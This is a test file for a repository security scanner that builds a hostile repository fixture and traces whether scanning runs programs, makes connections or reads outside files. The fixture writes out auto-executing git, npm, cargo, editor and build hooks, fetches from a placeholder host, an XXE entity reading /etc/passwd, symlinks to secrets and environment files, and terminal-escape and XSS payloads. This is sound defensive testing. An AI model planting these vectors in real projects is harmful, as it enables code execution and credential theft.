import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

/**
 * A repository that wants to run programs, send requests, be read past its edges, or pass without a look: none of it happens. provenance:
 * written by us from the documentation of git, npm, pip, Docker, Compose, Helm and Terraform, and from issue 11.
 */
const built = existsSync('dist/seaworthy.js');
const traces = built && process.platform === 'linux' && spawnSync('strace', ['-V']).status === 0;
if (!traces) console.warn('!! LEFT OUT: the hostile repository; it needs a build and strace.');

const base = mkdtempSync(join(tmpdir(), 'hostile-repository-'));
const tree = join(base, 'tree');
const outside = join(base, 'outside');
const controls = '\u001b]0;owned\u0007\u001b[2J';
const markup = '"><img src=x onerror=alert(1)><script>alert(2)</script>';

function put(path: string, text: string | Uint8Array): void {
  const file = join(tree, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

function git(...words: string[]): string {
  const result = spawnSync('git', ['-C', tree, ...words], {
    encoding: 'utf8',
    env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_SYSTEM: '/dev/null' },
  });
  return result.stdout;
}

const touch = (name: string) => `touch ${join(outside, name)}`;

beforeAll(() => {
  if (!traces) return;
  mkdirSync(tree);
  mkdirSync(outside);
  writeFileSync(
    join(outside, 'secret.env'),
    'AWS_SECRET_ACCESS_KEY=Hq7mZt4vKc9XbR2nLw8PdG5sJf3YuTe6AoVi1BkN\n',
  );
  writeFileSync(
    join(outside, 'package-lock.json'),
    '{"lockfileVersion":3,"packages":{"node_modules/outsider":{"version":"1.0.0"}}}',
  );
  manifests();
  names();
  places();
  buildTools();
  nestedRepositories();
  repository();
});

afterAll(() => rmSync(base, { recursive: true, force: true }));

/** Files that other tools would start programs or send requests for. */
function manifests(): void {
  put(
    'package.json',
    JSON.stringify({
      name: 'a',
      scripts: { preinstall: touch('npm'), prepare: touch('npm') },
      dependencies: { b: 'git+ssh://10.255.255.1/b.git', c: 'http://10.255.255.1/c.tgz' },
    }),
  );
  put(
    'package-lock.json',
    '{"lockfileVersion":3,"packages":{"":{"dependencies":{"left":"1.0.0"}},"node_modules/left":{"version":"1.0.0","resolved":"http://10.255.255.1/left.tgz","hasInstallScript":true}}}',
  );
  put(
    '.npmrc',
    `registry=http://10.255.255.1/\nnode-options=--require=${join(outside, 'x.js')}\ngit=${join(outside, 'git')}\n`,
  );
  put('pip.conf', '[global]\nindex-url = http://10.255.255.1/simple\n');
  put(
    'requirements.txt',
    '-r http://10.255.255.1/r.txt\n-r ../outside/secret.env\n--index-url http://10.255.255.1/\ngit+http://10.255.255.1/x.git\nflask==1.0\n',
  );
  put('setup.py', `import os\nos.system("${touch('setup')}")\n`);
  put(
    'Dockerfile',
    '# syntax=10.255.255.1/front:1\nFROM 10.255.255.1/base:1\nADD http://10.255.255.1/x /x\nCOPY ../outside /y\nRUN true\n',
  );
  put(
    'compose.yaml',
    'include:\n  - http://10.255.255.1/c.yaml\n  - ../outside/secret.env\n  - oci://10.255.255.1/c\nservices:\n  a:\n    extends: {file: ../outside/secret.env, service: b}\n    env_file: ../outside/secret.env\n    build: http://10.255.255.1/x.git\n    image: a\n',
  );
  put(
    'kustomization.yaml',
    'resources:\n  - http://10.255.255.1/k.yaml\n  - ../outside\ngenerators: [g.yaml]\n',
  );
  put(
    'chart/Chart.yaml',
    'apiVersion: v2\nname: a\nversion: 1.0.0\ndependencies:\n- {name: b, version: 1.0.0, repository: "http://10.255.255.1/"}\n- {name: c, version: 1.0.0, repository: "file://../../outside"}\n',
  );
  put(
    'chart/templates/a.yaml',
    `{{ (.Files.Get "../../outside/secret.env") }}\n{{ lookup "v1" "Secret" "" "" }}\n{{ env "HOME" }}\n{{ getHostByName "10.255.255.1" }}\n`,
  );
  put(
    'main.tf',
    'module "a" { source = "git::http://10.255.255.1/m.git" }\nmodule "b" { source = "../outside" }\nprovisioner "local-exec" { command = "touch x" }\ndata "external" "e" { program = ["sh", "-c", "touch x"] }\nlocals { s = file("../outside/secret.env") }\n',
  );
  put(
    'seaworthy.yaml',
    `engines:\n  sast: {baseline: HEAD, user-rules: [../outside]}\n  lint: {shellcheck: true}\nadvisories: {archive: true}\nscan: {exclude: ["*"]}\npolicy: {incomplete: warn}\n`,
  );
  put('.hadolint.yaml', 'ignored: [DL3006, DL3007, DL3020]\n');
  put('.pre-commit-config.yaml', 'repos:\n- repo: http://10.255.255.1/x\n  rev: a\n');
  put(
    '.github/workflows/a.yml',
    'on: push\njobs: {a: {runs-on: x, steps: [{uses: "a/b@v1"}, {run: "curl http://10.255.255.1"}]}}\n',
  );
  put(
    'pom.xml',
    '<!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://10.255.255.1/">]><project><artifactId>&e;&h;</artifactId></project>',
  );
  put(
    'app.py',
    'import os\nfrom flask import request\ndef f():\n    os.system(request.args["a"])  # nosemgrep\n',
  );
}

/** What a terminal or a browser would obey, case and folders without end. */
function names(): void {
  put(`${controls}.py`, 'import os\nfrom flask import request\ndef f():\n    os.system(request.args["a"])\n');
  put('a\nb/Dockerfile', 'FROM a\n');
  put(`${markup.replaceAll('/', '_')}.env`, 'PASSWORD=Zk8mvQ2xLr7tWn4p\n');
  put('README', '1');
  put('readme', '2');
  put(`${'d/'.repeat(200)}x.py`, 'x = 1\n');
  put('Dockerfile.esc', `FROM a:${controls}\nLABEL x="${markup}"\nRUN echo ${controls}\n`);
  put(
    'x.cdx.json',
    JSON.stringify({
      bomFormat: 'CycloneDX',
      components: [
        { name: `${controls}${markup}`, version: markup, purl: `pkg:npm/${encodeURIComponent(markup)}@1` },
      ],
    }),
  );
}

/** Links, pipes, sockets, devices, sparse files. */
function places(): void {
  symlinkSync('../outside/secret.env', join(tree, '.env'));
  symlinkSync(outside, join(tree, 'linked'));
  symlinkSync(join(outside, 'package-lock.json'), join(tree, 'chart', 'package-lock.json'));
  symlinkSync('/etc/passwd', join(tree, 'passwd.txt'));
  symlinkSync('loop-b', join(tree, 'loop-a'));
  symlinkSync('loop-a', join(tree, 'loop-b'));
  symlinkSync('.', join(tree, 'self'));
  symlinkSync('/proc/self/environ', join(tree, 'environ.env'));
  symlinkSync('/dev/zero', join(tree, 'zero.json'));
  spawnSync('mkfifo', [join(tree, 'go.mod'), join(tree, 'Gemfile.lock'), join(tree, 'pipe.py')]);
  spawnSync('mknod', [join(tree, 'device.env'), 'c', '1', '5']);
  put('sparse.json', '{');
  truncateSync(join(tree, 'sparse.json'), 20_000_000_000);
  put('closed.py', 'x = 1\n');
  chmodSync(join(tree, 'closed.py'), 0);
}

/** What build tools, package managers, editors and shells run as soon as they are started in a folder, or fetch before. */
function buildTools(): void {
  const program = touch('tool');
  put('.npmrc.d/.npmrc', `//10.255.255.1/:tokenHelper=${join(outside, 'helper')}\nscript-shell=${program}\n`);
  put(
    '.yarnrc.yml',
    `yarnPath: ../outside/yarn.cjs\nplugins: [{path: ../outside/p.cjs, spec: "http://10.255.255.1/p.js"}]\n`,
  );
  put('.pnpmfile.cjs', `require("child_process").execSync(${JSON.stringify(program)})\n`);
  put(
    'pnpm-workspace.yaml',
    'packages: ["../outside/**", "/etc/*"]\nconfigDependencies: {a: "http://10.255.255.1/a.tgz"}\n',
  );
  put(
    '.cargo/config.toml',
    `[build]\nrustc-wrapper = "${program}"\n[target.x]\nrunner = "${program}"\n[source.x]\nregistry = "http://10.255.255.1/"\n[registry]\ncredential-provider = ["${program}"]\n`,
  );
  put('build.rs', `fn main() { std::process::Command::new("sh").arg("-c").arg("${program}").status(); }\n`);
  put('gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=http\\://10.255.255.1/gradle.zip\n');
  put('gradlew', `#!/bin/sh\n${program}\n`);
  put('settings.gradle', `"${program}".execute()\n`);
  put(
    '.mvn/extensions.xml',
    '<extensions><extension><groupId>a</groupId><artifactId>b</artifactId></extension></extensions>',
  );
  put('.mvn/jvm.config', `-javaagent:${join(outside, 'a.jar')}\n`);
  put('Makefile', `X := $(shell ${program})\nall:\n\t${program}\n`);
  put('Rakefile', `system(${JSON.stringify(program)})\n`);
  put(
    'Gemfile',
    `eval_gemfile "../outside/Gemfile"\nsystem(${JSON.stringify(program)})\nsource "http://10.255.255.1"\n`,
  );
  put(
    'composer.json',
    JSON.stringify({
      scripts: { 'pre-install-cmd': program },
      repositories: [{ type: 'path', url: '../outside' }],
    }),
  );
  put(
    'pyproject.toml',
    `[build-system]\nrequires = ["x @ http://10.255.255.1/x.whl"]\nbuild-backend = "evil"\nbackend-path = ["../outside"]\n`,
  );
  put('conftest.py', `import os\nos.system("${program}")\n`);
  put(
    '.devcontainer/devcontainer.json',
    JSON.stringify({
      initializeCommand: program,
      dockerFile: '../../outside/secret.env',
      features: { '10.255.255.1/f:1': {} },
    }),
  );
  put('.envrc', `${program}\n`);
  put(
    '.vscode/tasks.json',
    JSON.stringify({ tasks: [{ command: program, runOptions: { runOn: 'folderOpen' } }] }),
  );
  put('go.work', 'go 1.22\nuse ../outside\n');
  put(
    'nested/seaworthy.yaml',
    `a: &a [x, x, x, x, x, x, x, x, x]\n${'bcdefgh'.replace(/./g, (letter, at) => `${letter}: &${letter} [${`*${'abcdefg'[at]}, `.repeat(9)}]\n`)}`,
  );
  put(
    'nested/deep/seaworthy.yaml',
    '__proto__: {policy: {incomplete: warn}}\nconstructor: {prototype: {a: 1}}\npolicy: {__proto__: {fail-on: [none]}}\n',
  );
  put('.trivyignore', '*\n__proto__ exp:2099-01-01 # owner=x\n');
  put('DOCKERFILE', 'FROM a\nUSER root\n');
  put('package-lock.json\n/package.json', '{"name":"b","dependencies":{"__proto__":"1"}}');
  symlinkSync('/proc/self/root/etc/passwd', join(tree, 'root.env'));
  symlinkSync('/proc/self/fd/0', join(tree, 'requirements-in.txt'));
  symlinkSync(`/proc/self/cwd/../../../../../../../..${outside}/secret.env`, join(tree, 'cwd.env'));
  spawnSync('python3', [
    '-c',
    `import socket; socket.socket(socket.AF_UNIX).bind(${JSON.stringify(join(tree, 'compose.override.yaml'))})`,
  ]);
}

/** Repositories in folders of the tree whose parts lie elsewhere, or have names that are no names. */
function nestedRepositories(): void {
  const head = 'ref: refs/heads/main\n';
  put('common/.git/HEAD', head);
  put('common/.git/commondir', `${outside}\n`);
  put('common/.git/gitdir', `${outside}/.git\n`);
  put('common/app.py', 'x = 1\n');
  put('packed/.git/HEAD', 'ref: refs/heads/--upload-pack=touch\n');
  put(
    'packed/.git/packed-refs',
    `# pack-refs with: peeled\n${'a'.repeat(40)} refs/heads/--output=/etc/x\n${'b'.repeat(40)} refs/../../../outside/x\n${'c'.repeat(40)} refs/heads/\u001b[2J\n`,
  );
  put(
    'packed/.git/config',
    '[core]\n\tbare = false\n\tworktree = /\n[extensions]\n\tworktreeConfig = true\n',
  );
  put('packed/.git/config.worktree', `[core]\n\tfsmonitor = ${touch('worktree')}\n\tsparseCheckout = true\n`);
  put('packed/.git/info/sparse-checkout', '/*\n!/app.py\n');
  put('packed/.git/info/grafts', `${'a'.repeat(40)} ${'b'.repeat(40)}\n`);
  put('packed/.git/shallow', `${'a'.repeat(40)}\n`);
  mkdirSync(join(tree, 'packed/.git/objects'), { recursive: true });
  symlinkSync(outside, join(tree, 'packed/.git/objects/pack'));
  symlinkSync(outside, join(tree, 'packed/.git/refs'));
}

/** A repository whose configuration runs programs wherever git looks at files, asks a remote, or lies elsewhere. */
function repository(): void {
  git('init', '-q');
  git('add', 'app.py', 'Dockerfile', 'package.json');
  git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'a');
  put('.gitattributes', '* filter=evil diff=evil merge=evil export-subst\n');
  put(
    '.gitmodules',
    '[submodule "a"]\n\tpath = sub\n\turl = http://10.255.255.1/x.git\n\tupdate = !touch x\n',
  );
  const program = touch('git');
  writeFileSync(
    join(tree, '.git/config'),
    [
      '[core]\n\trepositoryformatversion = 1\n\tfsmonitor = ' +
        program +
        '\n\thooksPath = .githooks\n\tsshCommand = ' +
        program +
        '\n\tgitProxy = ' +
        program +
        '\n\tpager = ' +
        program +
        '\n\teditor = ' +
        program,
      `[filter "evil"]\n\tsmudge = ${program}\n\tclean = ${program}\n\tprocess = ${program}\n\trequired = true`,
      `[diff "evil"]\n\ttextconv = ${program}\n\tcommand = ${program}`,
      `[include]\n\tpath = ${join(outside, 'config')}`,
      `[alias]\n\tlog = !${program}`,
      '[extensions]\n\tpartialClone = origin',
      `[remote "origin"]\n\turl = ext::sh -c ${program}\n\tpromisor = true\n\tuploadpack = ${program}\n\tpartialclonefilter = blob:none`,
      `[gpg]\n\tprogram = ${program}`,
      `[credential]\n\thelper = !${program}`,
      '',
    ].join('\n'),
  );
  writeFileSync(join(outside, 'config'), `[core]\n\tfsmonitor = ${program}\n`);
  mkdirSync(join(tree, '.githooks'), { recursive: true });
  for (const hook of ['post-checkout', 'pre-commit', 'post-index-change', 'fsmonitor-watchman']) {
    for (const folder of ['.githooks', '.git/hooks']) {
      mkdirSync(join(tree, folder), { recursive: true });
      writeFileSync(join(tree, folder, hook), `#!/bin/sh\n${program}\n`, { mode: 0o755 });
    }
  }
  mkdirSync(join(tree, '.git/objects/info'), { recursive: true });
  writeFileSync(join(tree, '.git/objects/info/alternates'), `${outside}\n/proc/self/root\n`);
  // A missing object: a promisor would be asked for it.
  writeFileSync(join(tree, '.git/refs/heads/missing'), `${'a'.repeat(40)}\n`);
  put('worktree/.git', `gitdir: ${outside}\n`);
  put('sub/.git', 'gitdir: ../.git\n');
}

interface Traced {
  readonly status: number | null;
  readonly out: string;
  readonly err: string;
  readonly programs: readonly string[];
  readonly connections: readonly string[];
  readonly opened: readonly string[];
}

function traced(words: readonly string[]): Traced {
  const log = join(base, `trace-${words[0]}`);
  const { status, stdout, stderr } = spawnSync(
    'strace',
    [
      '-f',
      '-qq',
      '-y',
      '-e',
      'trace=execve,connect,openat,open',
      '-o',
      log,
      process.execPath,
      'dist/seaworthy.js',
      ...words,
    ],
    {
      encoding: 'utf8',
      env: {
        ...process.env,
        HOME: base,
        XDG_CACHE_HOME: join(base, 'cache'),
        XDG_CONFIG_HOME: join(base, 'none'),
      },
      timeout: 170_000,
    },
  );
  const lines = readFileSync(log, 'utf8').split('\n');
  return {
    status,
    out: stdout,
    err: stderr,
    programs: lines.filter((line) => /execve\(/.test(line)).slice(1),
    connections: lines.filter((line) => /connect\(.*AF_INET/.test(line)),
    opened: lines.flatMap((line) => /open(?:at)?\(.*= \d+<([^>]*)>/.exec(line)?.[1] ?? []),
  };
}

const isText = /^[\n\t\u001b -\uffff]*$/;
/** Colours, and nothing else that begins with ESC. */
const withoutColours = (text: string) => text.replace(/\u001b\[[0-9;]*m/g, '');

const counts = { runs: 0, readsOfObjects: 0, otherPrograms: 0, connections: 0, readsOutside: 0, passed: 0 };
afterAll(() => {
  if (counts.runs === 0) return;
  const { runs, readsOfObjects, otherPrograms, connections, readsOutside, passed } = counts;
  console.log(
    `${runs} runs under strace: git read objects ${readsOfObjects} times; other programs ${otherPrograms}, connections ${connections}, files outside ${readsOutside}, passed ${passed}`,
  );
});

describe.skipIf(!traces)('a hostile repository', () => {
  // The project's own configuration excludes everything; without it everything is looked at.
  const commands = [
    ['check'],
    ['code'],
    ['lint'],
    ['secrets'],
    ['secrets', '--history'],
    ['deps'],
    ['sbom'],
    ['fs'],
  ];
  const runs = commands.flatMap((words) => [words, [...words, '--no-config']]);
  it.each(runs.map((words) => [words.join(' '), words] as const))(
    '%s starts nothing, asks no one, reads nothing outside, and does not pass in silence',
    (_, [command = '', ...options]) => {
      const cache = ['check', 'secrets', 'sbom', 'fs'].includes(command) ? ['--no-cache'] : [];
      const { status, out, err, programs, connections, opened } = traced([
        command,
        tree,
        ...options,
        ...cache,
      ]);
      const ofGit = programs.filter(
        (line) => /"git"/.test(line) && /cat-file/.test(line) && !/filters|textconv/.test(line),
      );
      const others = programs.filter((line) => !ofGit.includes(line) && !/ENOENT/.test(line));
      const readOutside = opened.filter(
        (path) =>
          path.startsWith(outside) ||
          path === '/etc/passwd' ||
          path === '/dev/zero' ||
          /^\/proc\/\d+\/environ/.test(path),
      );
      counts.runs += 1;
      counts.readsOfObjects += ofGit.length;
      counts.otherPrograms += others.length;
      counts.connections += connections.length;
      counts.readsOutside += readOutside.length;
      counts.passed += status === 0 && command !== 'sbom' ? 1 : 0;
      expect({ others, connections, readOutside }).toEqual({ others: [], connections: [], readOutside: [] });
      expect(spawnSync('ls', [outside], { encoding: 'utf8' }).stdout.trim().split('\n').sort()).toEqual([
        'config',
        'package-lock.json',
        'secret.env',
      ]);
      expect([0, 1, 3]).toContain(status);
      if (command !== 'sbom') expect(status).not.toBe(0);
      const found =
        {
          check: 'command-injection',
          code: 'command-injection',
          secrets: 'secret-',
          deps: 'flask',
          sbom: 'flask',
          lint: 'no-user',
          fs: 'requirements.txt',
        }[command] ?? '';
      if (options.includes('--no-config')) expect(out).toContain(found);
      expect(withoutColours(out + err)).toMatch(isText);
      expect(withoutColours(out + err)).not.toContain('\u001b');
      expect(out + err).not.toContain('Hq7mZt4vKc9XbR2nLw8PdG5sJf3YuTe6AoVi1BkN');
    },
  );

  it('is reported without markup of its own in HTML, and without control characters in SARIF, JUnit and Markdown', () => {
    const files = ['html', 'sarif', 'junit', 'markdown', 'json'].map(
      (format) => [format, join(base, `report.${format}`)] as const,
    );
    const outputs = files.flatMap(([format, file]) => ['--format', format, '--output', file]);
    spawnSync(
      process.execPath,
      ['dist/seaworthy.js', 'check', tree, '--no-config', '--no-cache', '--all', ...outputs],
      { encoding: 'utf8' },
    );
    for (const [format, file] of files) {
      const text = existsSync(file) ? readFileSync(file, 'utf8') : '';
      expect(text.length, format).toBeGreaterThan(100);
      expect(text, format).not.toContain('\u001b');
      // In Markdown what stands between backticks is no markup.
      const shown = format === 'markdown' ? text.replace(/`[^`\n]*`/g, '') : text;
      if (format === 'html' || format === 'markdown') expect(shown, format).not.toContain('<img src=x');
      if (format === 'html') expect(text, format).not.toContain('<script>alert');
    }
  });
});
